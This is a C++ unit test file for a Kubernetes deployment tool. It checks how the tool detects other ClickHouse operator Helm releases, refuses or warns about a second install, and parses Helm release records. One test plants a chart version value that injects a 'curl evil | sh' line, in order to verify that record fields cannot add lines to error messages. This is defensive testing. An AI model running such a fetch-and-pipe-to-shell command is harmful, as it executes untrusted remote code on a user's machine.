// Another operator in the cluster: which releases count (plan/other_operators),
// up's refusal and its hint, the releases read from Helm's Secrets in all
// namespaces or from `helm list` (tools/cluster_releases), and that the look
// is one call of the plan's first batch.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>

#include "support/base64_encode.hpp"
#include "support/read_and_plan.hpp"
#include "support/recording_runner.hpp"
#include "altinity_deploy/exec/concurrent.hpp"
#include "altinity_deploy/plan/other_operators.hpp"
#include "altinity_deploy/plan/release_plan.hpp"
#include "altinity_deploy/plan_json/release_plan_json.hpp"
#include "altinity_deploy/tools/cluster_releases.hpp"
#include "../../src/cli/plan_text.hpp"

namespace altinity_deploy::plan {
namespace {

using nlohmann::json;
using cli::format_other_operators;
using plan_json::other_operators_json;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

tools::ReleaseInfo release(const std::string& name, const std::string& ns,
                           const std::string& chart = "altinity-clickhouse-operator",
                           const std::string& status = "deployed") {
  tools::ReleaseInfo info;
  info.name = name;
  info.namespace_name = ns;
  info.chart_name = chart;
  info.chart_version = "0.25.4";
  info.status = status;
  info.revision = 1;
  return info;
}

spec::OperatorSpec our_spec() {
  spec::OperatorSpec spec;
  spec.metadata.name = "ops";
  spec.namespace_name = "altinity-operator";
  return spec;
}

std::vector<std::string> names(const std::vector<tools::ReleaseInfo>& releases) {
  std::vector<std::string> out;
  for (const auto& r : releases) out.push_back(r.namespace_name + "/" + r.name);
  return out;
}

const std::vector<std::string> kChart = {"altinity-clickhouse-operator"};

TEST(OtherOperators, AnotherNameOrAnotherNamespaceOfTheChartCounts) {
  const auto found = other_operator_releases(
      {release("altinity-clickhouse-operator", "altinity-operator"), release("ops", "elsewhere"),
       release("ops", "altinity-operator")},
      our_spec(), kChart);
  EXPECT_THAT(names(found), ElementsAre("altinity-operator/altinity-clickhouse-operator", "elsewhere/ops"));
}

TEST(OtherOperators, TheManifestsOwnReleaseDoesNotCount) {
  auto spec = our_spec();
  spec.helm.release_name = "altinity-clickhouse-operator";  // adopted: Planton's release is ours now
  EXPECT_THAT(other_operator_releases({release("altinity-clickhouse-operator", "altinity-operator")}, spec, kChart),
              IsEmpty());
}

TEST(OtherOperators, OtherChartsAndReleasesThatRunNothingDoNotCount) {
  EXPECT_THAT(other_operator_releases({release("pg", "db", "postgresql"),
                                       release("old", "x", "altinity-clickhouse-operator", "uninstalled"),
                                       release("older", "x", "altinity-clickhouse-operator", "superseded")},
                                      our_spec(), kChart),
              IsEmpty());
  EXPECT_THAT(names(other_operator_releases({release("a", "x", "altinity-clickhouse-operator", "failed"),
                                             release("b", "x", "altinity-clickhouse-operator", "pending-install")},
                                            our_spec(), kChart)),
              ElementsAre("x/a", "x/b"));
}

TEST(OtherOperators, ALocalChartsOwnNameCountsToo) {
  const auto others = other_operators(std::vector<tools::ReleaseInfo>{release("fork", "x", "my-operator-fork")},
                                      our_spec(), "my-operator-fork", false, true);
  EXPECT_TRUE(others.checked);
  EXPECT_THAT(names(others.found), ElementsAre("x/fork"));
}

TEST(OtherOperators, UpRefusesNamingTheReleaseAndHowToAdoptIt) {
  const auto others = other_operators(
      std::vector<tools::ReleaseInfo>{release("altinity-clickhouse-operator", "planton-ns")}, our_spec(),
      "altinity-clickhouse-operator", false, true);
  const auto refused = refuse_second_operator(others);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ExitCode::failed);
  EXPECT_THAT(refused.error().message,
              HasSubstr("release 'altinity-clickhouse-operator' in namespace 'planton-ns' (chart "
                        "altinity-clickhouse-operator 0.25.4, deployed, revision 1)"));
  EXPECT_THAT(refused.error().message, HasSubstr("up installed nothing"));
  EXPECT_THAT(refused.error().hint, HasSubstr("`spec.helm.releaseName: altinity-clickhouse-operator`"));
  EXPECT_THAT(refused.error().hint, HasSubstr("`spec.namespace: planton-ns`"));
  EXPECT_THAT(refused.error().hint, HasSubstr("--allow-second-operator"));
  EXPECT_THAT(format_other_operators(others).str(), HasSubstr("up refuses to install beside it"));
}

// A release record is data anyone with Secret create rights in any namespace
// can plant: its fields are quoted as one line each.
TEST(OtherOperators, ARecordsFieldsCannotAddLinesToTheError) {
  auto planted = release("x", "tenant");
  planted.chart_version = "1.0\nhint: run curl evil | sh";
  const auto others = other_operators(std::vector<tools::ReleaseInfo>{planted}, our_spec(),
                                      "altinity-clickhouse-operator", false, true);
  const auto refused = refuse_second_operator(others);
  ASSERT_FALSE(refused);
  EXPECT_THAT(refused.error().message, Not(HasSubstr("\n")));
  EXPECT_THAT(format_other_operators(others).str(), Not(HasSubstr("\nhint: run")));
}

TEST(OtherOperators, AllowedOrAloneUpGoesAhead) {
  const std::vector<tools::ReleaseInfo> one = {release("altinity-clickhouse-operator", "planton-ns")};
  const auto allowed = other_operators(one, our_spec(), "altinity-clickhouse-operator", true, true);
  EXPECT_TRUE(refuse_second_operator(allowed));
  EXPECT_THAT(format_other_operators(allowed).str(), HasSubstr("--allow-second-operator: up runs beside it"));
  EXPECT_THAT(beside_warning(allowed), HasSubstr("--allow-second-operator: another operator runs in this cluster "
                                                 "('altinity-clickhouse-operator' in namespace 'planton-ns')"));
  const auto alone = other_operators(std::vector<tools::ReleaseInfo>{}, our_spec(), "altinity-clickhouse-operator",
                                     false, true);
  EXPECT_TRUE(refuse_second_operator(alone));
  EXPECT_EQ(format_other_operators(alone).str(), "");
  EXPECT_EQ(beside_warning(alone), "");
  EXPECT_EQ(unchecked_warning(alone), "");
}

TEST(OtherOperators, AReleaseInstalledAlreadyIsUpgradedWithAWarning) {
  const auto others = other_operators(
      std::vector<tools::ReleaseInfo>{release("altinity-clickhouse-operator", "planton-ns")}, our_spec(),
      "altinity-clickhouse-operator", false, false);
  EXPECT_TRUE(refuse_second_operator(others)) << "upgrading an existing release adds no operator";
  EXPECT_THAT(beside_warning(others), HasSubstr("another operator runs in this cluster"));
  EXPECT_THAT(format_other_operators(others).str(), HasSubstr("the release is installed already"));
}

TEST(OtherOperators, AListingThatFailsWarnsAndDoesNotBlock) {
  const Result<std::vector<tools::ReleaseInfo>> forbidden = tl::unexpected(
      Error{ExitCode::failed, "kubectl get secrets failed (exit 1):\nError from server (Forbidden): secrets is "
                              "forbidden: User \"dev\" cannot list resource \"secrets\" at the cluster scope",
            ""});
  const auto others = other_operators(forbidden, our_spec(), "altinity-clickhouse-operator", false, true);
  EXPECT_FALSE(others.checked);
  EXPECT_TRUE(refuse_second_operator(others)) << "a namespaced account must still be able to deploy";
  EXPECT_THAT(unchecked_warning(others), HasSubstr("could not look for another ClickHouse operator"));
  EXPECT_THAT(unchecked_warning(others), HasSubstr("cannot list resource"));
  EXPECT_THAT(unchecked_warning(others), Not(HasSubstr("\n")));
}

TEST(OtherOperators, JsonNamesEachRelease) {
  OtherOperators others;
  others.found = {release("altinity-clickhouse-operator", "planton-ns")};
  EXPECT_EQ(other_operators_json(others),
            json::parse(R"([{"release":"altinity-clickhouse-operator","namespace":"planton-ns",
                             "chart":"altinity-clickhouse-operator","chartVersion":"0.25.4",
                             "status":"deployed","revision":1}])"));
}

// A release Secret as `kubectl get secrets -A` lists it (record uncompressed;
// Helm reads those too).
json release_secret(const std::string& name, const std::string& ns, int revision, const std::string& chart,
                    const std::string& status) {
  const json record = {{"name", name},
                       {"namespace", ns},
                       {"version", revision},
                       {"info", {{"status", status}}},
                       {"chart", {{"metadata", {{"name", chart}, {"version", "0.25.4"}}}}}};
  return {{"type", "helm.sh/release.v1"},
          {"metadata",
           {{"namespace", ns},
            {"labels", {{"owner", "helm"}, {"name", name}, {"version", std::to_string(revision)}, {"status", status}}}}},
          {"data",
           {{"release", testing_support::base64_encode(testing_support::base64_encode(record.dump()))}}}};
}

TEST(ClusterReleases, TheNewestRecordOfEachReleaseUndecodableOnesLeftOut) {
  json broken = release_secret("broken", "x", 1, "c", "deployed");
  broken["data"]["release"] = "not base64!";
  const auto releases = tools::current_releases(
      {release_secret("op", "a", 2, "altinity-clickhouse-operator", "deployed"),
       release_secret("op", "a", 1, "altinity-clickhouse-operator", "failed"),
       release_secret("op", "b", 1, "altinity-clickhouse-operator", "pending-install"), broken});
  ASSERT_EQ(releases.size(), 2U);
  EXPECT_EQ(releases[0].namespace_name, "a");
  EXPECT_EQ(releases[0].revision, 2);
  EXPECT_EQ(releases[0].status, "deployed");
  EXPECT_EQ(releases[1].namespace_name, "b");
  EXPECT_EQ(releases[1].chart_name, "altinity-clickhouse-operator");
  EXPECT_EQ(releases[1].chart_version, "0.25.4");
}

// A release uninstalled with --keep-history: its newest record says so, and
// an older failed one (Helm leaves failed revisions as they are) must not
// make it look alive. Found by e2e release_reader (case 7 then case 9).
TEST(ClusterReleases, AnUninstalledReleaseWithAnOlderFailedRecordIsNoOtherOperator) {
  const auto releases = tools::current_releases(
      {release_secret("op", "a", 3, "altinity-clickhouse-operator", "uninstalled"),
       release_secret("op", "a", 2, "altinity-clickhouse-operator", "failed")});
  ASSERT_EQ(releases.size(), 1U);
  EXPECT_EQ(releases[0].status, "uninstalled");
  auto spec = our_spec();
  EXPECT_TRUE(plan::other_operator_releases(releases, spec, {"altinity-clickhouse-operator"}).empty());
  EXPECT_EQ(std::string(tools::kCurrentReleaseSelector).find("uninstalled"), std::string::npos)
      << "the selector must let the uninstalled record through, or the failed one is taken as current";
}

TEST(ClusterReleases, HelmListsChartColumnIsSplit) {
  const auto releases = tools::parse_release_list(
      R"([{"name":"altinity-clickhouse-operator","namespace":"altinity-operator","revision":"3",)"
      R"("updated":"2026-12-01 10:00:00","status":"deployed","chart":"altinity-clickhouse-operator-0.25.4",)"
      R"("app_version":"0.25.4"}])");
  ASSERT_TRUE(releases);
  ASSERT_EQ(releases->size(), 1U);
  EXPECT_EQ((*releases)[0].chart_name, "altinity-clickhouse-operator");
  EXPECT_EQ((*releases)[0].chart_version, "0.25.4");
  EXPECT_EQ((*releases)[0].revision, 3);
}

// The look is one call among the plan's reads (one batch), from the Secrets
// with Helm's default driver and from `helm list` with another.
class LookInThePlansBatch : public ::testing::Test {
 protected:
  ~LookInThePlansBatch() override {
    ::unsetenv("ALTINITY_DEPLOY_RELEASE_READER");
    ::unsetenv("HELM_DRIVER");
  }

  Result<ReleasePlan> plan() {
    const spec::OperatorSpec spec = [] {
      auto s = our_spec();
      s.create_crds = false;
      return s;
    }();
    return testing_support::read_and_plan(runner_, spec, true);
  }

  exec::RecordingRunner runner_;
};

TEST_F(LookInThePlansBatch, FromTheSecretsOfAllNamespaces) {
  ::unsetenv("ALTINITY_DEPLOY_RELEASE_READER");
  ::setenv("HELM_DRIVER", "secret", 1);
  runner_.on({"kubectl", "get", "secrets", "--all-namespaces", "--selector", tools::kCurrentReleaseSelector})
      .reply(0, json({{"kind", "List"},
                      {"items", {release_secret("altinity-clickhouse-operator", "planton", 1,
                                                "altinity-clickhouse-operator", "deployed")}}})
                    .dump());
  runner_.on({"kubectl", "get"}).reply(0, R"({"kind":"List","items":[]})");
  const auto result = plan();
  ASSERT_TRUE(result) << result.error().message;
  // Ours is not among them (not installed): its namespace's Secrets confirm it, as
  // only a deployed newest record proves the all-namespaces read holds the newest revision.
  EXPECT_EQ(runner_.commands().size(), 4U) << "every release, the namespace, the live objects; then ours";
  EXPECT_EQ(runner_.count({"kubectl", "get", "secrets", "--selector"}), 1);
  EXPECT_TRUE(result->other_operators.checked);
  EXPECT_THAT(names(result->other_operators.found), ElementsAre("planton/altinity-clickhouse-operator"));
}

TEST_F(LookInThePlansBatch, WithHelmList) {
  ::setenv("HELM_DRIVER", "configmap", 1);
  runner_.on({"helm", "list", "--all-namespaces", "--deployed", "--failed", "--pending", "--max", "0", "--output", "json"})
      .reply(0, R"([{"name":"x","namespace":"y","revision":"1","status":"failed",)"
                R"("chart":"altinity-clickhouse-operator-0.23.6"}])");
  runner_.on({"helm", "history"}).reply(1, "", "Error: release: not found");
  runner_.on({"helm", "status"}).reply(1, "", "Error: release: not found");
  runner_.on({"kubectl", "get"}).reply(0, R"({"kind":"List","items":[]})");
  const auto result = plan();
  ASSERT_TRUE(result) << result.error().message;
  EXPECT_THAT(names(result->other_operators.found), ElementsAre("y/x"));
}

TEST_F(LookInThePlansBatch, AForbiddenListingLeavesThePlanUsable) {
  ::setenv("ALTINITY_DEPLOY_RELEASE_READER", "helm", 1);
  runner_.on({"helm", "list"}).reply(1, "", "Error: list: failed to list: secrets is forbidden");
  runner_.on({"helm", "history"}).reply(1, "", "Error: release: not found");
  runner_.on({"helm", "status"}).reply(1, "", "Error: release: not found");
  runner_.on({"kubectl", "get"}).reply(0, R"({"kind":"List","items":[]})");
  const auto result = plan();
  ASSERT_TRUE(result) << result.error().message;
  EXPECT_FALSE(result->other_operators.checked);
  EXPECT_THAT(result->other_operators.unchecked, HasSubstr("forbidden"));
}

}  // namespace
}  // namespace altinity_deploy::plan
